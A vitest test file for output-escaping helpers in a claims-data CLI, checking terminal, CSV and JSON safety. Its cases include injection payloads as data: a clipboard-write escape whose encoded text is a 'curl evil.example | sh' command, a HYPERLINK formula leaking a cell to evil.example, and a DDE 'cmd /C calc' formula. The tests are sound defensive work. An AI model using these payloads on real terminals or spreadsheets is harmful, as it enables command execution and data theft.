import { describe, expect, it } from 'vitest';
import { csvCell, csvRows, jsonSafe, safeLines, terminalSafe } from './safe_text.js';
import { printJson } from '../cli/io.js';
import { diffMarkdown, diffText, progressLine } from '../cli/format.js';
import type { DiffReport } from '../ingest/diff.js';

/** Any character a terminal acts on: C0, DEL, C1. */
const RAW_CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

describe('terminalSafe: text from a file printed on a terminal', () => {
  const cases: [string, string, string][] = [
    ['ESC alone', '\x1b', '\\x1b'],
    ['CSI clear screen', 'ACME\x1b[2J\x1b[H', 'ACME\\x1b[2J\\x1b[H'],
    ['OSC 52 clipboard write, BEL-ended', '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07', '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'],
    ['OSC 8 link, ST-ended', '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\', '\\x1b]8;;https://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\'],
    ['NUL', 'a\x00b', 'a\\x00b'],
    ['a newline inside a value', 'MEDICARE\nfake line', 'MEDICARE\\x0afake line'],
    ['carriage return', 'paid\rrefused', 'paid\\x0drefused'],
    ['tab and backspace', 'a\tb\bc', 'a\\x09b\\x08c'],
    ['unit separator (last C0)', '\x1f', '\\x1f'],
    ['DEL', 'x\x7f', 'x\\x7f'],
    ['C1 CSI (0x9b)', '\u009b2J', '\\x9b2J'],
    ['C1 OSC (0x9d) and ST (0x9c)', '\u009d52;c;eA==\u009c', '\\x9d52;c;eA==\\x9c'],
    ['first and last C1', '\u0080\u009f', '\\x80\\x9f'],
  ];
  it.each(cases)('escapes %s', (_, input, shown) => {
    expect(terminalSafe(input)).toBe(shown);
    expect(terminalSafe(input)).not.toMatch(RAW_CONTROL);
  });

  it('leaves printable text alone: accents, symbols, U+00A0 and above', () => {
    for (const s of ['EXAMPLE CLINIC', 'Clínica Niño — $1,234.56', 'a\u00a0b', '→ ≤ 𝟙', 'C:\\path\\x1b']) expect(terminalSafe(s)).toBe(s);
  });

  it("keeps the writer's own line breaks and escapes one inside a line", () => {
    expect(safeLines(['== a.835 ==', 'Claim A\nB\x1b[2J'])).toBe('== a.835 ==\nClaim A\\x0aB\\x1b[2J\n');
  });
});

describe('csvCell: a worklist cell a spreadsheet shows and never runs', () => {
  const cases: [string, string | number | null, string][] = [
    ['a formula', '=HYPERLINK("https://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`],
    ['a leading plus', '+1', `"'+1"`],
    ['a leading at', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['a leading minus that is no number', '-x', `"'-x"`],
    ['a leading minus formula', '-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['a leading tab', '\t=1+1', `"'\\x09=1+1"`],
    ['a leading carriage return', '\r=1+1', `"'\\x0d=1+1"`],
    ['a negative amount', '-1.08', '-1.08'],
    ['a negative whole number', '-42', '-42'],
    ['a number', 100, '100'],
    ['an amount', '330.00', '330.00'],
    ['a date', '2027-08-03', '2027-08-03'],
    ['a plain name', 'medicare_ffs', 'medicare_ffs'],
    ['a comma', 'DOE, JANE', '"DOE, JANE"'],
    ['a quote', 'the "plan"', '"the ""plan"""'],
    ['an escape sequence inside', 'ACME\x1b]52;c;eA==\x07', 'ACME\\x1b]52;c;eA==\\x07'],
    ['a newline inside', 'a\nb', 'a\\x0ab'],
    ['nothing', null, ''],
  ];
  it.each(cases)('writes %s', (_, input, cell) => {
    expect(csvCell(input)).toBe(cell);
    expect(csvCell(input)).not.toMatch(RAW_CONTROL);
  });

  it('writes rows one per line, every cell through csvCell', () => {
    expect(csvRows([['file', 'amount'], ['=cmd', '-1.08']])).toBe(`file,amount\n"'=cmd",-1.08\n`);
  });
});

describe('JSON output', () => {
  it('JSON.stringify escapes C0 (ESC included) but writes DEL and C1 raw; jsonSafe escapes those too and parses back to the same value', () => {
    const v = { name: 'ACME\x1b[2J\u009b2J\x7f\u009d8;;x\u009c' };
    const plain = JSON.stringify(v);
    expect(plain).not.toContain('\x1b');
    expect(plain).toMatch(/[\u007f-\u009f]/);
    const safe = jsonSafe(plain);
    expect(safe).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(safe)).toEqual(v);
  });

  it("is what every command's --json prints", () => {
    let out = '';
    printJson({ stdout: (s) => void (out += s), stderr: () => undefined, isTTY: false, env: {} }, { name: '\u009b2J\x1b' });
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(JSON.parse(out)).toEqual({ name: '\u009b2J\x1b' });
  });
});

describe('the ingest and diff reports', () => {
  const report = {
    dataset: 'clfs',
    from_version: '2026Q1',
    to_version: '2026Q2\x1b]52;c;eA==\x07',
    counts: { added: 1, removed: 0, changed: 1, unchanged: 0 },
    removed_pct: 0,
    changed_pct: 50,
    samples: { added: ['8005\x1b[2J3'], removed: [], changed: ['80061'] },
    tables: {},
    columns: { rate: { changed: 1, samples: [{ key: '80061', before: '1.00', after: '2.00\x1b]8;;https://evil.example/\x1b\\' }] } },
    failed: [],
  } as unknown as DiffReport;

  it('prints keys, values and labels from the files terminal-safe, in text and markdown', () => {
    for (const out of [diffText(report), diffMarkdown(report)]) {
      expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(out).toContain('\\x1b]52;c;eA==\\x07');
      expect(out).toContain('8005\\x1b[2J3');
    }
  });

  it('prints a progress line with a file name terminal-safe', () => {
    const line = progressLine({ dataset: 'clfs', file: 'CLFS\x1b[2J.csv', rows: 1, rejects: 0, bytes: 1, total_bytes: 1, elapsed_ms: 1 });
    expect(line).toContain('CLFS\\x1b[2J.csv');
    expect(line).not.toMatch(RAW_CONTROL);
  });
});
